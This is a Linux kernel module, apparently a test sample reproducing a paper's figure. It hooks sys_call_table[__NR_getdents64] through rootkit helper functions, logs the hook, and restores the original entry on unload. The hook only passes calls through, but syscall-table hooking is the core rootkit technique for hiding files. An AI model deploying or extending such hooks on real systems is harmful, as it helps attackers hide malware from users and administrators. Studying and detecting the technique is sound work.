// SPDX-License-Identifier: GPL-2.0
/* 1. The paper's Fig. 1: overwrite sys_call_table[__NR_getdents64]. */
#include <linux/module.h>
#include <linux/syscalls.h>
#include "rk_common.h"

static unsigned long *table;
static unsigned long orig;

static asmlinkage long rk_getdents64(const struct pt_regs *regs)
{
	return ((asmlinkage long (*)(const struct pt_regs *))orig)(regs);
}

static int __init rk_init(void)
{
	unsigned long hook = (unsigned long)rk_getdents64;

	table = (unsigned long *)rk_lookup("sys_call_table");
	if (!table)
		return -ENOENT;
	orig = table[__NR_getdents64];
	rk_write(&table[__NR_getdents64], &hook, sizeof(hook));
	pr_info("rk_syscall_table: sys_call_table[%d] hooked\n", __NR_getdents64);
	return 0;
}

static void __exit rk_exit(void)
{
	rk_write(&table[__NR_getdents64], &orig, sizeof(orig));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
